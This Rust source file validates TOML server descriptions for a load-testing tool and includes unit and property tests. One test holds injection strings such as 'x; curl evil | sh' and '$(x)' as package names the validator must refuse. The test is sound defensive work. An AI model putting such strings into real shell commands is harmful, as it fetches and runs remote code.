//! Parsing and checking a description.

use std::net::IpAddr;
use std::path::{Component, Path};

use knee_host::toml_text::{TomlError, from_toml};
use knee_load::{End, Reply, TextError};

use super::fields::{RequestDescription, Server};
use crate::placeholders::{
    self, ADDRESS, CONNECTIONS, MAX_CONNECTIONS, NUMBER, PLACEHOLDERS, SECONDS,
};

/// Whether this can be the name of a package. knee suggests to install it, so it must be one word to a shell, and no
/// option.
fn is_package(name: &str) -> bool {
    let is_part = |c: char| c.is_ascii_alphanumeric() || "+-._".contains(c);
    name.starts_with(|c: char| c.is_ascii_alphanumeric()) && name.chars().all(is_part)
}

/// The longest time that a description can ask for, in seconds.
const MOST_SECONDS: f64 = 86_400.0;

/// What is wrong with a description.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DescriptionError {
    /// It is not TOML, or has a key or value of another type.
    #[error(transparent)]
    Syntax(#[from] TomlError),
    /// A value that knee cannot use.
    #[error("{key}: {reason}")]
    Value {
        /// The key.
        key: String,
        /// What is wrong, and what to write.
        reason: String,
    },
}

impl DescriptionError {
    fn value(key: impl Into<String>, reason: impl Into<String>) -> Self {
        Self::Value { key: key.into(), reason: reason.into() }
    }
}

impl Server {
    /// Parses the text of a description.
    ///
    /// # Errors
    /// The error names the line or the key.
    pub fn parse(text: &str) -> Result<Self, DescriptionError> {
        let server: Self = from_toml(text)?;
        server.check()?;
        Ok(server)
    }

    /// Checks what the types of the fields do not say.
    ///
    /// # Errors
    /// The error names the key.
    pub fn check(&self) -> Result<(), DescriptionError> {
        let is_name = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
        if self.name.is_empty() || !self.name.chars().all(is_name) {
            let reason = "use letters, digits, _, - and .";
            return Err(DescriptionError::value(
                "name",
                format!("{:?} is not a valid name; {reason}", self.name),
            ));
        }
        if let Some(need) = self.needs.iter().find(|need| !is_package(&need.package)) {
            let reason = format!("{:?} is not the name of a package", need.package);
            return Err(DescriptionError::value("needs.package", reason));
        }
        for name in self.files.keys() {
            let mut parts = Path::new(name).components();
            if !matches!((parts.next(), parts.next()), (Some(Component::Normal(_)), None)) {
                let reason = format!("{name:?} is not the name of a file in the private directory");
                return Err(DescriptionError::value("files", reason));
            }
        }
        self.check_texts()?;
        self.check_load()?;
        let ready = [&self.ready.connect, &self.ready.output, &self.ready.command];
        let described = ready.into_iter().flatten().count();
        if described > 1 {
            return Err(DescriptionError::value(
                "ready",
                "set only one of connect, output and command",
            ));
        }
        if described == 0 && self.load.address.is_none() {
            let reason = "say how the server is known to be ready, such as [ready] connect = \"127.0.0.1:{port}\"; \
                          output and command are the other ways";
            return Err(DescriptionError::value("ready", reason));
        }
        let seconds =
            [("ready.seconds", self.ready.seconds), ("stop.seconds", Some(self.stop.seconds))];
        for (key, seconds) in seconds {
            if seconds.is_some_and(|seconds| !(0.0..=MOST_SECONDS).contains(&seconds)) {
                let reason = format!("must be a time in seconds from 0 to {MOST_SECONDS}");
                return Err(DescriptionError::value(key, reason));
            }
        }
        Ok(())
    }

    /// The commands and addresses, with their keys.
    fn texts(&self) -> impl Iterator<Item = (&'static str, &String)> {
        let lists = [("setup", &self.setup), ("prepare", &self.prepare)];
        let listed =
            lists.into_iter().flat_map(|(key, list)| list.iter().map(move |text| (key, text)));
        let single = [
            ("ready.command", &self.ready.command),
            ("ready.connect", &self.ready.connect),
            ("load.address", &self.load.address),
            ("load.command", &self.load.command),
        ];
        let single = single.into_iter().filter_map(|(key, text)| Some((key, text.as_ref()?)));
        std::iter::once(("server.command", &self.server.command)).chain(listed).chain(single)
    }

    /// All commands, with their keys. Those of one key have the order in which they run.
    pub fn commands(&self) -> impl Iterator<Item = (&'static str, &String)> {
        self.texts().filter(|(key, _)| !matches!(*key, "ready.connect" | "load.address"))
    }

    /// Whether a command or an address contains `placeholder`.
    pub fn uses(&self, placeholder: &str) -> bool {
        self.texts().any(|(_, text)| text.contains(placeholder))
    }

    /// Whether the number of connections reaches the load. Only a command can ignore it.
    pub fn takes_connections(&self) -> bool {
        self.load.command.as_ref().is_none_or(|command| command.contains(CONNECTIONS))
    }

    /// Whether the description tells the server how many connections to allow.
    pub(crate) fn takes_max_connections(&self) -> bool {
        self.uses(MAX_CONNECTIONS) || self.files.values().any(|text| text.contains(MAX_CONNECTIONS))
    }

    /// Whether the description contains the address of this machine.
    pub(crate) fn takes_address(&self) -> bool {
        self.uses(ADDRESS) || self.files.values().any(|text| text.contains(ADDRESS))
    }

    /// Checks that the load can run for `seconds`.
    ///
    /// # Errors
    /// The load takes only whole seconds. The error contains the next valid time.
    pub fn check_seconds(&self, seconds: f64) -> Result<(), String> {
        if !self.load.whole_seconds || seconds.fract() == 0.0 {
            return Ok(());
        }
        let (name, next) = (&self.name, seconds.ceil());
        Err(format!("the load of {name} takes only whole seconds, such as {next}"))
    }

    /// Words in its files that are probably meant to be placeholders: the name of the file, the word and the placeholder. A
    /// file can have such words of its own.
    pub fn doubtful_placeholders(&self) -> impl Iterator<Item = (&str, &str, &'static str)> {
        self.files.iter().filter_map(|(name, text)| {
            let (word, meant) = placeholders::misspelt(text, &PLACEHOLDERS)?;
            Some((name.as_str(), word, meant))
        })
    }

    fn check_texts(&self) -> Result<(), DescriptionError> {
        for (key, text) in self.texts() {
            if text.trim().is_empty() {
                return Err(DescriptionError::value(key, "must not be empty"));
            }
            if let Some((word, meant)) = placeholders::misspelt(text, &PLACEHOLDERS) {
                let reason = format!("{word} is not a placeholder (did you mean {meant}?)");
                return Err(DescriptionError::value(key, reason));
            }
            let is_address = matches!(key, "load.address" | "ready.connect");
            if is_address && !has_port(text) {
                let reason = format!("{text:?} is not an address; write HOST:PORT or unix:PATH");
                return Err(DescriptionError::value(key, reason));
            }
        }
        Ok(())
    }

    fn check_load(&self) -> Result<(), DescriptionError> {
        let load = &self.load;
        match (&load.address, &load.command) {
            (None, None) => {
                let reason = "set one of address and command";
                return Err(DescriptionError::value("load", reason));
            }
            (Some(_), Some(_)) => {
                return Err(DescriptionError::value("load", "set only one of address and command"));
            }
            (Some(_), None) if load.request.is_empty() => {
                return Err(DescriptionError::value("load.request", "a request is missing"));
            }
            (None, Some(_)) if !load.request.is_empty() || !self.fill.is_empty() => {
                return Err(DescriptionError::value(
                    "load",
                    "load.request and fill require load.address",
                ));
            }
            _ => {}
        }
        self.check_host()?;
        if load.whole_seconds && !load.command.as_ref().is_some_and(|line| line.contains(SECONDS)) {
            let reason = "applies only to a load.command with {seconds}";
            return Err(DescriptionError::value("load.whole_seconds", reason));
        }
        if load.read.is_some() && load.command.is_none() {
            return Err(DescriptionError::value("load.read", "applies only to load.command"));
        }
        let is_pattern = |read: &String| read.matches(NUMBER).count() == 1;
        if load.read.as_ref().is_some_and(|read| !is_pattern(read)) {
            let reason = "must contain one # in place of the rate, such as 'tps = #'";
            return Err(DescriptionError::value("load.read", reason));
        }
        let of_load = load.request.iter().map(|request| ("load.request", request));
        let of_fill = self.fill.iter().map(|fill| ("fill.request", &fill.request));
        for (key, request) in of_load.chain(of_fill) {
            request.parsed().map_err(|reason| DescriptionError::value(key, reason))?;
            if let Some(placeholder) =
                PLACEHOLDERS.iter().find(|name| request.send.contains(**name))
            {
                let reason = format!(
                    "{placeholder} is not replaced in requests, only {{random:N}} and {{number}} are; for a brace, \
                     write \\x7b"
                );
                return Err(DescriptionError::value(key, reason));
            }
        }
        Ok(())
    }
}

impl Server {
    /// Checks that a load on another host can reach the server.
    fn check_host(&self) -> Result<(), DescriptionError> {
        let load = &self.load;
        if load.knee.is_some() && (load.host.is_none() || load.command.is_some()) {
            let reason = "applies only to the requests of knee on load.host";
            return Err(DescriptionError::value("load.knee", reason));
        }
        let Some((address, _)) = load.address.as_ref().zip(load.host.as_ref()) else {
            return Ok(());
        };
        let reason = if address.trim_start().starts_with("unix:") {
            "a Unix socket cannot be reached from load.host"
        } else if is_own(address) {
            "load.host would connect to itself"
        } else {
            return Ok(());
        };
        let remedy = "write \"{address}:{port}\", and let the server listen there";
        Err(DescriptionError::value("load.address", format!("{reason}; {remedy}")))
    }
}

/// Whether the address of a server has a port, which may be a placeholder, or is that of a Unix socket.
fn has_port(address: &str) -> bool {
    let is_port = |port: &str| port.contains('{') || port.parse::<u16>().is_ok();
    let with_port = address.rsplit_once(':');
    address.starts_with("unix:")
        || with_port.is_some_and(|(host, port)| !host.is_empty() && is_port(port))
}

/// Whether each machine reaches itself at this address.
fn is_own(address: &str) -> bool {
    let host = address.rsplit_once(':').map_or(address, |(host, _)| host);
    let host = host.trim_start_matches('[').trim_end_matches(']');
    let is_own = |ip: IpAddr| ip.is_loopback() || ip.is_unspecified();
    host == "localhost" || host.parse().is_ok_and(is_own)
}

impl RequestDescription {
    /// The request for the generator.
    pub(crate) fn parsed(&self) -> Result<knee_load::Request, String> {
        let text = |error: TextError| error.to_string();
        if self.reply_bytes == Some(0) {
            return Err("reply_bytes = 0: a reply has at least one byte".to_owned());
        }
        if self.reply_ends.as_deref() == Some("") {
            return Err("reply_ends is empty; write the text with which a reply ends".to_owned());
        }
        let end = match (&self.reply_ends, self.reply_bytes, self.reply_http) {
            (Some(end), None, false) => End::with(end).map_err(text)?,
            (None, Some(bytes), false) => End::Bytes(bytes),
            (None, None, true) => End::Http,
            (None, None, false) => {
                return Err("set one of reply_ends, reply_bytes and reply_http".to_owned());
            }
            _ => return Err("set only one of reply_ends, reply_bytes and reply_http".to_owned()),
        };
        let reply = Reply::new(&self.expect, end).map_err(text)?;
        let mut request = knee_load::Request::new(&self.send, reply).map_err(text)?;
        request.weight = self.weight.get();
        Ok(request)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::description::StopSignal;

    const ECHO: &str = r#"
name = "echo"
[server]
command = "echo-server --port {port}"
[load]
address = "127.0.0.1:{port}"
[[load.request]]
send = 'hello\n'
reply_ends = '\n'
"#;

    fn refused(text: &str) -> String {
        Server::parse(text).unwrap_err().to_string()
    }

    #[test]
    fn a_short_description_has_defaults() {
        let echo = Server::parse(ECHO).unwrap();
        assert_eq!((echo.unit.as_str(), echo.load.connections.get()), ("requests", 32));
        assert_eq!((echo.stop.signal, echo.stop.seconds), (StopSignal::Term, 5.0));
        let json = serde_json::to_string(&echo).unwrap();
        assert_eq!(serde_json::from_str::<Server>(&json).unwrap(), echo, "{json}");
    }

    #[test]
    fn a_misspelt_key_is_reported_with_its_line_and_the_right_key() {
        let misspelt = ECHO.replace("reply_ends", "reply_end");
        assert_eq!(
            refused(&misspelt),
            "line 9: unknown key reply_end (did you mean reply_ends or reply_bytes or reply_http?)"
        );
        let strange = ECHO.replace("[load]", "zzz = 1\n[load]");
        assert_eq!(refused(&strange), "line 5: unknown key zzz; valid keys: command, user");
        let wrong = "line 1: name: expected a string, found the integer 1";
        assert_eq!(refused("name = 1"), wrong);
        assert!(refused("name = \"a\n").starts_with("line 1: "), "{}", refused("name = \"a\n"));
    }

    #[test]
    fn a_signal_may_have_its_full_name() {
        let stop = |signal: &str| {
            let stop = format!("[stop]\nsignal = '{signal}'\n[load]");
            Server::parse(&ECHO.replace("[load]", &stop)).map(|server| server.stop.signal)
        };
        assert_eq!((stop("QUIT"), stop("SIGQUIT")), (Ok(StopSignal::Quit), Ok(StopSignal::Quit)));
        assert_eq!(StopSignal::Quit.to_string(), "SIGQUIT");
        let unknown = stop("KIL").unwrap_err().to_string();
        assert!(unknown.contains("unknown value KIL (did you mean KILL"), "{unknown}");
        assert!(stop("FOO").unwrap_err().to_string().contains("unknown value FOO; valid values: "));
    }

    #[test]
    fn a_value_of_another_type_is_reported_with_its_key_in_words_of_toml() {
        let with = |from: &str, to: &str| refused(&ECHO.replace(from, to));
        let request = "request = { send = 'a', reply_bytes = 1 }\n";
        assert_eq!(
            with("[load]", &format!("[fill]\ncount = 1\n{request}[load]")),
            "line 5: fill: expected an array, found a table; write [[fill]] instead of [fill]"
        );
        assert_eq!(
            with("send =", "weight = \"x\"\nsend ="),
            "line 8: weight: expected an integer of at least 1, found the string \"x\""
        );
        assert_eq!(
            with("[load]", "[stop]\nseconds = 'x'\n[load]"),
            "line 6: seconds: expected a number, found the string \"x\""
        );
        assert_eq!(
            with("[server]", "[other]").split(';').next().unwrap(),
            "line 3: unknown key other"
        );
        assert_eq!(with("name = \"echo\"\n", ""), "line 1: the key name is missing");
    }

    #[test]
    fn the_name_of_a_package_adds_nothing_to_the_command_that_installs_it() {
        let needs =
            |package: &str| format!("needs = [{{ program = 'x', package = '{package}' }}]{ECHO}");
        for package in ["nginx-light", "libstdc++6", "postgresql-15"] {
            assert!(Server::parse(&needs(package)).is_ok(), "{package}");
        }
        for package in ["", "x; curl evil | sh", "-o=x", "$(x)", "a b"] {
            let expected = format!("needs.package: {package:?} is not the name of a package");
            assert_eq!(refused(&needs(package)), expected);
        }
    }

    #[test]
    fn a_misspelt_placeholder_is_reported() {
        let misspelt = ECHO.replace("--port {port}", "--port {prot}");
        let reason = "server.command: {prot} is not a placeholder (did you mean {port}?)";
        assert_eq!(refused(&misspelt), reason);
        let in_a_file = format!("{ECHO}\n[files]\nconf = 'listen {{prot}}'\n");
        let server = Server::parse(&in_a_file).unwrap();
        assert_eq!(
            server.doubtful_placeholders().collect::<Vec<_>>(),
            [("conf", "{prot}", "{port}")]
        );
        // A shell and awk have braces of their own.
        Server::parse(&ECHO.replace("--port {port}", "${HOME} '{print}' {a,b}")).unwrap();
    }

    #[test]
    fn the_error_for_an_unusable_value_says_what_to_write() {
        let with = |from: &str, to: &str| refused(&ECHO.replace(from, to));
        assert!(with("\"echo\"", "\"a b\"").contains("\"a b\" is not a valid name"));
        assert!(with(r"reply_ends = '\n'", "").contains("set one of reply_ends, "));
        assert!(with(r"'hello\n'", r"'\q'").contains(r"\q has no meaning"));
        assert!(with(r"'hello\n'", "'{nubmer}'").contains("{nubmer} has no meaning"));
        let port = with(r"'hello\n'", "'Host: a:{port}'");
        assert!(port.starts_with("load.request: {port} is not replaced in requests"), "{port}");
        assert!(
            with("[load]", "[stop]\nseconds = -1\n[load]").starts_with("stop.seconds: must be")
        );
        assert!(
            with("[load]", "[files]\n\"../a\" = ''\n[load]").contains("\"../a\" is not the name")
        );
        assert!(with("[load]", "[load]\nread = '#'").contains("only to load.command"));
        let ends = r"reply_ends = '\n'";
        let two = with(ends, "reply_ends = 'a'\nreply_bytes = 1");
        assert!(two.contains("set only one of reply_ends, "), "{two}");
        assert!(with(ends, "reply_bytes = 0").contains("reply_bytes = 0: a reply has at least"));
        assert!(with(ends, "reply_ends = ''").contains("reply_ends is empty"));
        for address in ["localhost", ":80", "localhost:", "localhost:http", "{address}"] {
            let refused = with("127.0.0.1:{port}", address);
            assert!(refused.starts_with("load.address: \""), "{refused}");
            assert!(refused.ends_with("is not an address; write HOST:PORT or unix:PATH"));
        }
        assert!(with("[load]", "[ready]\nconnect = 'a'\n[load]").starts_with("ready.connect: "));
        let command = "name = 'a'\n[server]\ncommand = 'a'\n[load]\ncommand = 'b'\n";
        assert!(refused(command).starts_with("ready: "), "{}", refused(command));
        let pattern = format!("{command}read = 'tps'\n[ready]\noutput = 'up'");
        assert!(refused(&pattern).contains("must contain one #"));
        let none = "name = 'a'\n[server]\ncommand = 'a'\n[load]\n";
        assert!(refused(none).contains("load: set one of address"));
    }

    #[test]
    fn a_load_host_must_reach_the_server() {
        let remote = ECHO.replace("[load]\n", "[load]\nhost = 'ssh:me@beta'\n");
        let at = |address: &str| remote.replace("127.0.0.1:{port}", address);
        for own in ["127.0.0.1:{port}", "localhost:80", "[::1]:80", "0.0.0.0:80"] {
            let refused = refused(&at(own));
            assert!(
                refused.starts_with("load.address: load.host would connect to itself"),
                "{refused}"
            );
        }
        assert!(refused(&at("unix:{dir}/s")).starts_with("load.address: a Unix socket cannot be"));
        for other in ["{address}:{port}", "192.0.2.7:{port}", "[2001:db8::1]:80", "alpha:80"] {
            let server = Server::parse(&at(other)).unwrap();
            assert_eq!(server.load.host.unwrap().name(), "me@beta");
        }
        let unnamed = refused(&at("{address}:{port}").replace("ssh:me@beta", "beta"));
        assert!(unnamed.contains("write it as ssh:HOST or ssh:USER@HOST"), "{unnamed}");
        let local = ECHO.replace("[load]\n", "[load]\nknee = './knee'\n");
        assert!(refused(&local).starts_with("load.knee: applies only"), "{}", refused(&local));
    }

    #[test]
    fn a_load_of_whole_seconds_refuses_fractions() {
        let text = "name = 'a'\nserver.command = 'a'\nready.output = 'up'\n[load]\n\
                    command = 'b -T {seconds}'\n";
        let any = Server::parse(text).unwrap();
        let whole = Server::parse(&format!("{text}whole_seconds = true\n")).unwrap();
        assert_eq!((any.check_seconds(0.4), whole.check_seconds(2.0)), (Ok(()), Ok(())));
        let refused_seconds = whole.check_seconds(1.5).unwrap_err();
        assert_eq!(refused_seconds, "the load of a takes only whole seconds, such as 2");
        let useless = refused(&ECHO.replace("[load]", "[load]\nwhole_seconds = true"));
        assert!(useless.starts_with("load.whole_seconds: applies only to"), "{useless}");
    }

    #[test]
    fn only_a_command_can_ignore_the_number_of_connections() {
        let commanded = |line: &str| {
            let text = format!("name = 'a'\n[server]\ncommand = 'a'\n[load]\ncommand = '{line}'\n");
            Server::parse(&(text + "[ready]\noutput = 'up'")).unwrap().takes_connections()
        };
        assert!(commanded("load -c {connections}") && !commanded("load -c 8"));
        assert!(!commanded("load -c {max_connections}"));
        assert!(Server::parse(ECHO).unwrap().takes_connections());
    }

    proptest::proptest! {
        #[test]
        fn no_text_makes_it_panic(text: String) {
            let _ = Server::parse(&text);
        }
    }
}
